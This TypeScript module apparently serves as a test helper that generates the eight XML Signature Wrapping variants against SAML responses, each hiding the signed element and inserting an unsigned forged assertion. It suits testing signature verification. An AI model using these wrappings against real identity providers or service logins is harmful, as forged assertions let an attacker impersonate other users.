import { DOMParser, type Element, XMLSerializer } from '@xmldom/xmldom';
import { childOf, NS } from '../../evidence/saml/xml.ts';

/** Makes a document that holds what was signed, and something else where a careless reader looks. */
type Wrap = (signed: string, evil: (xml: string) => string) => string;

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');

/** @param change of the document's elements, and of an evil copy of the response and of the assertion. */
const by =
  (
    change: (parts: {
      response: Element;
      assertion: Element;
      /** Without signatures, under other IDs. */
      evilResponse: Element;
      evilAssertion: Element;
      signature(of: Element): Element;
      make(name: string): Element;
    }) => Element,
  ): Wrap =>
  (signed, evil) => {
    const document = parse(signed);
    const response = document.documentElement!;
    const take = (xml: string) => document.importNode(parse(xml).documentElement!, true);
    const signature = (of: Element) => childOf(of, 'signature', 'Signature')!;
    const evilResponse = take(evil(signed));
    const evilAssertion = childOf(evilResponse, 'assertion', 'Assertion')!.cloneNode(true) as Element;
    for (const one of [evilResponse, childOf(evilResponse, 'assertion', 'Assertion')!, evilAssertion]) {
      one.removeChild(signature(one));
      one.setAttribute('ID', '_evil');
    }
    const assertion = childOf(response, 'assertion', 'Assertion')!;
    const make = (name: string) => document.createElementNS(NS.signature, name);
    return new XMLSerializer().serializeToString(
      change({ response, assertion, evilResponse, evilAssertion, signature, make }),
    );
  };

/** After the issuer, where a signature belongs. */
function putSignature(into: Element, signature: Element): void {
  into.insertBefore(signature, into.firstChild!.nextSibling);
}

/** The eight of "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as testing tools number them. */
export const wrappings: [string, Wrap][] = [
  [
    '1: the response that was signed lies in the signature of another',
    by(({ response, evilResponse, signature }) => {
      const own = signature(response);
      response.removeChild(own);
      putSignature(evilResponse, own);
      own.appendChild(response);
      return evilResponse;
    }),
  ],
  [
    '2: the response that was signed lies before its signature in another',
    by(({ response, evilResponse, signature }) => {
      const own = signature(response);
      response.removeChild(own);
      putSignature(evilResponse, own);
      evilResponse.insertBefore(response, own);
      return evilResponse;
    }),
  ],
  [
    '3: another assertion before the one that was signed',
    by(({ response, assertion, evilAssertion }) => {
      response.insertBefore(evilAssertion, assertion);
      return response;
    }),
  ],
  [
    '4: the assertion that was signed lies in another',
    by(({ response, assertion, evilAssertion }) => {
      response.replaceChild(evilAssertion, assertion);
      evilAssertion.appendChild(assertion);
      return response;
    }),
  ],
  [
    '5: another assertion has the signature, and the one that was signed lies at the end',
    by(({ response, assertion, evilAssertion, signature }) => {
      const own = signature(assertion);
      assertion.removeChild(own);
      response.insertBefore(evilAssertion, assertion);
      putSignature(evilAssertion, own);
      return response;
    }),
  ],
  [
    '6: another assertion has the signature, and the one that was signed lies in it',
    by(({ response, assertion, evilAssertion, signature }) => {
      const own = signature(assertion);
      assertion.removeChild(own);
      response.replaceChild(evilAssertion, assertion);
      putSignature(evilAssertion, own);
      own.appendChild(assertion);
      return response;
    }),
  ],
  [
    '7: another assertion of the same ID in extensions',
    by(({ response, assertion, evilAssertion }) => {
      const extensions = response.ownerDocument!.createElementNS(NS.protocol, 'samlp:Extensions');
      evilAssertion.setAttribute('ID', assertion.getAttribute('ID')!);
      extensions.appendChild(evilAssertion);
      response.insertBefore(extensions, assertion);
      return response;
    }),
  ],
  [
    '8: the assertion that was signed lies in an object of the signature of another',
    by(({ response, assertion, evilAssertion, signature, make }) => {
      const own = signature(assertion);
      assertion.removeChild(own);
      response.replaceChild(evilAssertion, assertion);
      evilAssertion.setAttribute('ID', assertion.getAttribute('ID')!);
      putSignature(evilAssertion, own);
      const object = make('ds:Object');
      object.appendChild(assertion);
      own.appendChild(object);
      return response;
    }),
  ],
];
